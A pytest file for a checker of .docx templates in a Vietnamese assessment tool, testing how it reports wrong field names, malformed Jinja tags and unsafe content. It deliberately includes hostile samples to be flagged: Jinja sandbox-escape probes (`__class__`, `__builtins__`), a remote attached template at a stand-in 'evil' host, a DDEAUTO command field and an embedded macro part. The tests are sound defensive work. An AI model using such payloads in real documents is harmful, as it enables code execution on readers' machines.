from __future__ import annotations

import io
import unicodedata
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from docx.document import Document

from ktassess.documents.engine.checking import check_bytes, check_template, check_templates
from ktassess.documents.engine.environment import make_environment
from ktassess.documents.engine.fields import Field, Fields, ListOf, describe, sample_context
from ktassess.domain.findings import Finding
from ktassess.messages import Catalogue, Language

from .making_templates import (
    council_table,
    file_of,
    in_deletion,
    in_hyperlink,
    in_runs,
    table,
    template_bytes,
)

FIELDS = Fields(
    "",
    "",
    {
        "diem_tong": Field("text", "tổng điểm", "total", "812,5"),
        "so": Field("number", "số", "number", 3),
        "dat": Field("truth", "đạt", "passed", True),
        "ghi_chu": Field("text", "ghi chú", "note", "không", optional=True),
        "xa": Fields(
            "xã",
            "commune",
            {
                "ten": Field("text", "tên", "name", "Đắk La"),
                "chu_tich": Fields("chủ tịch", "chair", {"ho_ten": Field("text", "họ tên", "name", "B")}),
            },
        ),
        "ban_hanh": Fields("", "", {"so": Field("text", "số", "number", "01")}, optional=True),
        "council": ListOf(
            "hội đồng",
            "council",
            Fields(
                "",
                "",
                {
                    "name": Field("text", "họ tên", "name", "Nguyễn Văn A"),
                    "office": Field("text", "chức vụ", "office", "Trưởng thôn"),
                    "tasks": ListOf("", "", Field("text", "việc", "task", "thư ký")),
                },
            ),
            examples=({"name": "Trần Văn B"}, {"name": "Lê Thị C"}),
        ),
    },
)


def check(*texts: str, make: Callable[[Document], None] | None = None) -> list[Finding]:
    return check_bytes(template_bytes(*texts, make=make), FIELDS, make_environment(), "mau.docx")


def said(finding: Finding, param: str = "where", language: Language = Language.VI) -> str:
    return Catalogue.load(language).said(finding.params[param])


def short(findings: list[Finding]) -> list[tuple[str, str]]:
    return [(finding.code.id, said(finding)) for finding in findings]


def test_a_right_template_has_no_findings() -> None:
    def make(document: Document) -> None:
        in_runs(document, "{", "{ xa.", "chu_tich.ho_ten|up", "per }", "}")
        council_table(document)
        document.add_paragraph("{%p if dat and so > 2 %}")
        document.add_paragraph(
            "{{ ghi_chu|default('không') }} {{ council|length }} {{ council[0].name if council }}"
        )
        document.add_paragraph("{%p endif %}")
        document.add_paragraph("{% set n = namespace(x=0) %}{% set n.x = n.x + 1 %}{{ n.x }}")
        document.add_paragraph(
            "{% for m in council %}{% for t in m.tasks %}{{ loop.index }} {{ t }}{% endfor %}{% endfor %}"
        )
        document.add_paragraph(
            "{% if ban_hanh %}{{ ban_hanh.so }}{% endif %}"
            "{% if council %}{{ (council|first).name }}{% endif %}"
        )
        document.add_paragraph(
            "{% for m in council if m.name != 'A' %}{{ m.name }}{% else %}không ai{% endfor %}"
        )
        document.sections[0].header.paragraphs[0].text = "{{ so }}"

    assert check("{{ diem_tong }}", make=make) == []


@pytest.mark.parametrize(
    ("tag", "name", "nearest"),
    [
        ("{{ điểm_tong }}", "điểm_tong", "diem_tong"),
        ("{{ diem_tog }}", "diem_tog", "diem_tong"),
        ("{{ Diem_Tong }}", "Diem_Tong", "diem_tong"),
        (unicodedata.normalize("NFD", "{{ điểm_tổng }}"), "điểm_tổng", "diem_tong"),
        ("{{ xa.tên }}", "xa.tên", "xa.ten"),
        ("{{ xa.chu_tich.hoten }}", "xa.chu_tich.hoten", "xa.chu_tich.ho_ten"),
        ("{{ xa['tenn'] }}", "xa.tenn", "xa.ten"),
        ("{{ ho_ten }}", "ho_ten", "xa.chu_tich.ho_ten"),
        ("{% for m in council %}{{ m.nam }}{% endfor %}", "m.nam", "m.name"),
        ("{% for m in council %}{{ loop.idx }}{% endfor %}", "loop.idx", "loop.index"),
        ("{% for m in concil %}{{ m.nam }}{% endfor %}", "concil", "council"),
        ("{% if dax %}a{% endif %}", "dax", "dat"),
        ("{{ so|uper }}", "uper", "upper"),
        ("{% if so is oddd %}a{% endif %}", "oddd", "odd"),
        ("{{ zzzzzz }}", "zzzzzz", "—"),
    ],
)
def test_unknown_names_are_found_with_the_nearest(tag: str, name: str, nearest: str) -> None:
    findings = check("đoạn đầu", tag)
    assert short(findings) == [("KT606", "đoạn 2")]
    assert findings[0].params["name"] == name
    assert findings[0].params["nearest"] == nearest


@pytest.mark.parametrize(
    ("tag", "vi", "en"),
    [
        (
            "{{ xa }}",
            "đây là một nhóm: chọn một phần của nhóm (ten, chu_tich …)",
            "this is a group: choose a part of it (ten, chu_tich …)",
        ),
        (
            "{{ council.name }}",
            "council là một danh sách, không có phần “name”",
            "council is a list and has no part “name”",
        ),
        ("{{ so.ten }}", "so là một giá trị, không có phần “ten”", "so is a value and has no part “ten”"),
        (
            "{{p xa.ten }}",
            "không dùng “{{p …”: giá trị chỉ là chữ",
            "“{{p …” is not used here: values are text and nothing else",
        ),
        (
            "{%p if dat % 2 %}",
            "thẻ “{%p …” không được chứa % hoặc }",
            "the tag “{%p …” may not contain % or }",
        ),
        (
            "{%tr for m in council %}",
            "thẻ “{%tr …” chỉ dùng trong bảng",
            "the tag “{%tr …” is for tables only",
        ),
        ("{% endif x %}", "sau “endif” không được có gì", "nothing may stand after “endif”"),
        ("{% endif %}", "“endif” không có “if” mở trước", "“endif” has no “if” before it"),
        ("{% else %}", "“else” không nằm trong khối if hoặc for nào", "“else” stands in no if and no for"),
        ("{% if dat %}a", "khối “if” không có “endif” đóng", "the block “if” has no “endif”"),
        ("{% p if dat %}", "phải viết liền “{%p if …”", "it is written together, “{%p if …”"),
        (
            "{% fro m in council %}",
            "không có lệnh “fro”; có phải “for”?",
            "there is no command “fro” (perhaps “for”)",
        ),
        ("{% zzzz %}", "không có lệnh “zzzz”", "there is no command “zzzz”"),
        (
            "{% for 1 in council %}",
            "sai cú pháp: can't assign to 'const'",
            "wrong syntax: can't assign to 'const'",
        ),
        (
            "{{ so so }}",
            "sai cú pháp: cần “hết thẻ” nhưng gặp “so”",
            "wrong syntax: “end of the tag” is needed where “so” stands",
        ),
        (
            "{{ so ? }}",
            "sai cú pháp: ký tự “?” không dùng được ở đây",
            "wrong syntax: the character “?” cannot be used here",
        ),
    ],
)
def test_a_reason_is_said_in_both_languages(tag: str, vi: str, en: str) -> None:
    findings = check(tag)
    assert vi in {said(finding, "reason") for finding in findings}
    assert en in {said(finding, "reason", Language.EN) for finding in findings}


def test_a_place_is_said_in_both_languages() -> None:
    def make(document: Document) -> None:
        table(document, ["a", "{{ sai }}"])
        document.sections[0].header.paragraphs[0].text = "{{ sai }}"

    findings = check("{{ sai }}", make=make)
    assert [said(finding) for finding in findings] == [
        "đoạn 1",
        "bảng 1, hàng 1, cột 2",
        "đầu trang, đoạn 1",
    ]
    assert [said(finding, language=Language.EN) for finding in findings] == [
        "paragraph 1",
        "table 1, row 1, column 2",
        "header, paragraph 1",
    ]


def test_a_loop_name_is_unknown_after_its_loop() -> None:
    assert short(check("{% for m in council %}{{ m.name }}{% endfor %}", "{{ m.name }}")) == [
        ("KT606", "đoạn 2")
    ]


@pytest.mark.parametrize(
    "tag",
    [
        "{{ so.__class__ }}",
        "{{ xa['__class__'] }}",
        "{{ __builtins__ }}",
        "{{ diem_tong.upper() }}",
        "{{ xa.ten.format(1) }}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% from 'x' import y %}",
        "{% extends 'x' %}",
        "{% macro m() %}{% endmacro %}",
        "{{ 2 ** 9999 }}",
        "{% if council.clear() %}a{% endif %}",
    ],
)
def test_unsafe_tags(tag: str) -> None:
    assert ("KT607", "đoạn 1") in short(check(tag))


@pytest.mark.parametrize(
    "tag",
    [
        "{{ }}",
        "{{ so + }}",
        "{{ so so }}",
        "{{ 'mở }}",
        "{% if %}a{% endif %}",
        "{% if so = 3 %}a{% endif %}",
        "{% for m council %}{{ so }}{% endfor %}",
        "{% fro m in council %}",
        "{% p if dat %}",
        "{% else %}",
        "{% endif %}",
        "{% if dat %}a",
        "{% for m in council %}a{% endif %}",
        "{% if dat %}a{% endif x %}",
        "{{ so",
        "so }}",
        "{{ so } }",
        "{% if dat }a{% endif %}",
        "{{ xa }}",
        "{{ council }}",
        "{{ dat }}",
        "{{ so.ten }}",
        "{{ council.name }}",
        "{% for m in so %}a{% endfor %}",
        "{{p xa.ten }}",
        "{{r xa.ten }}",
        "{%p if dat % 2 %}",
        "{%tr for m in council %}",
        "{% do so %}",
        "{% raw %}{% endraw %}",
        "{{ so * 'a' }}",
    ],
)
def test_wrong_tags(tag: str) -> None:
    findings = check("đúng {{ so }}", tag)
    assert findings, tag
    assert {finding.code.id for finding in findings} == {"KT605"}
    assert {said(finding) for finding in findings} == {"đoạn 2"}
    assert all(said(finding, "reason") and finding.params["tag"] for finding in findings)


def test_all_errors_of_all_templates_in_one_pass(tmp_path: Path) -> None:
    def make(document: Document) -> None:
        table(document, ["{{ sai_hai }}", "{{ so }}"], ["a", "{{ xa.sai }}"])
        document.sections[0].header.paragraphs[0].text = "{{ so | }}"

    (tmp_path / "a").mkdir()
    first = file_of(tmp_path / "a", "{{ sai_mot }}", "{% include 'x' %}", make=make)
    second = file_of(tmp_path, "{{ so", "{{ diem_tong.x }}")
    missing = tmp_path / "khong-co.docx"
    findings = check_templates([first, second, missing], FIELDS)
    assert [(f.code.id, said(f) if "where" in f.params else None) for f in findings] == [
        ("KT606", "đoạn 1"),
        ("KT607", "đoạn 2"),
        ("KT606", "bảng 1, hàng 1, cột 1"),
        ("KT606", "bảng 1, hàng 2, cột 2"),
        ("KT605", "đầu trang, đoạn 1"),
        ("KT605", "đoạn 1"),
        ("KT605", "đoạn 2"),
        ("KT604", None),
    ]


def p_beside(document: Document) -> None:
    for text in ("{%p if dat %} chữ bên cạnh", "a", "{%p endif %}"):
        document.add_paragraph(text)


def two_p(document: Document) -> None:
    for text in ("{%p if dat %}{%p if so %}", "a", "{%p endif %}", "{%p endif %}"):
        document.add_paragraph(text)


def row_beside(document: Document) -> None:
    table(document, ["{%tr for m in council %}", "mất"], ["{{ m.name }}", ""], ["{%tr endfor %}", ""])


def mixed(document: Document) -> None:
    table(document, ["{%tr for m in council %}", ""], ["{{ m.name }}", ""], ["{%p endfor %}", ""])


def mixed_inline(document: Document) -> None:
    for text in ("{%p if dat %}", "a", "{% endif %}"):
        document.add_paragraph(text)


def over_cells(document: Document) -> None:
    table(document, ["{% if dat %}a", "b{% endif %}"], ["c", "d"])


def out_of_cell(document: Document) -> None:
    table(document, ["{% if dat %}a", "b"])
    document.add_paragraph("{% endif %}")


def p_over_cells(document: Document) -> None:
    table(document, ["{%p if dat %}", "{%p endif %}"])


def hyperlink(document: Document) -> None:
    in_hyperlink(document, "xem {{ so", " }} ở đây")


def block_in_hyperlink(document: Document) -> None:
    in_hyperlink(document, "xem {% if dat %}", "a{% endif %}")


def deletion(document: Document) -> None:
    in_deletion(document, "{{ so }}")


def over_paragraphs(document: Document) -> None:
    document.add_paragraph("{{ s")
    document.add_paragraph("o }}")


def empty_cell(document: Document) -> None:
    table(document, ["x", "b"])
    cell = document.tables[0].rows[0].cells[0]
    cell.text = "{%p if ghi_chu %}"
    cell.add_paragraph("{{ ghi_chu }}")
    cell.add_paragraph("{%p endif %}")


def empty_table(document: Document) -> None:
    table(document, ["{%tr for m in council %}", ""], ["{{ m.name }}", ""], ["{%tr endfor %}", ""])


@pytest.mark.parametrize(
    ("make", "where"),
    [
        (p_beside, {"đoạn 1"}),
        (two_p, {"đoạn 1"}),
        (row_beside, {"bảng 1, hàng 1, cột 1"}),
        (mixed, {"bảng 1, hàng 3, cột 1"}),
        (mixed_inline, {"đoạn 3"}),
        (over_cells, {"bảng 1, hàng 1, cột 2"}),
        (out_of_cell, {"đoạn 1"}),
        (p_over_cells, {"bảng 1, hàng 1, cột 2"}),
        (hyperlink, {"đoạn 1"}),
        (block_in_hyperlink, {"đoạn 1"}),
        (deletion, {"đoạn 1"}),
        (over_paragraphs, {"đoạn 1", "đoạn 2"}),
        (empty_cell, {"bảng 1 (“b”)", "bảng 1"}),
        (empty_table, {"bảng 1"}),
    ],
    ids=lambda value: getattr(value, "__name__", ""),
)
def test_what_docxtpl_loses_in_silence_is_found(make: Callable[[Document], None], where: set[str]) -> None:
    findings = check(make=make)
    assert findings
    assert {finding.code.id for finding in findings} == {"KT605"}
    assert {said(finding) for finding in findings} <= where


def test_a_tag_wholly_in_a_hyperlink_or_split_by_runs_is_fine() -> None:
    assert check(make=lambda document: in_hyperlink(document, "xem ", "{{ so }}")) == []
    assert check(make=lambda document: in_runs(document, "{%", " if dat", " %}a{", "% endif %}")) == []


def test_an_inline_block_over_paragraphs_of_one_cell_is_fine() -> None:
    assert check("{% if dat %}một", "hai {{ so }}{% endif %}") == []


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w") as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, content)
    return stream.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("word/vbaProject.bin", b"x", "KT607"),
        (
            "word/_rels/settings.xml.rels",
            (
                b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                b'<Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm"'
                b' TargetMode="External"/></Relationships>'
            ),
            "KT607",
        ),
        (
            "word/comments.xml",
            (
                b'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:comment><w:p><w:r><w:t>{{ so }}</w:t></w:r></w:p></w:comment></w:comments>"
            ),
            "KT605",
        ),
        (
            "word/footer9.xml",
            (
                b'<w:ftr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p></w:ftr>"
            ),
            "KT607",
        ),
    ],
)
def test_what_a_template_may_not_carry(name: str, content: bytes, code: str) -> None:
    data = with_member(template_bytes("{{ so }}"), name, content)
    assert [finding.code.id for finding in check_bytes(data, FIELDS, make_environment(), "m")] == [code]


def test_what_is_no_word_file_is_a_finding(tmp_path: Path) -> None:
    path = tmp_path / "mau.docx"
    path.write_bytes(b"khong phai zip")
    assert [finding.code.id for finding in check_template(path, FIELDS)] == ["KT605"]


def test_samples_and_documentation_follow_the_fields() -> None:
    full, bare = sample_context(FIELDS), sample_context(FIELDS, bare=True)
    assert full["council"][1] == {"name": "Lê Thị C", "office": "Trưởng thôn", "tasks": ["thư ký"] * 3}
    assert bare["council"] == []
    assert bare["ban_hanh"] is None
    assert bare["ghi_chu"] == ""
    text = describe(FIELDS)
    for name in (
        "`diem_tong`",
        "`xa.chu_tich.ho_ten`",
        "`item.office`",
        "{%p for item in council %}",
        "812,5",
    ):
        assert name in text
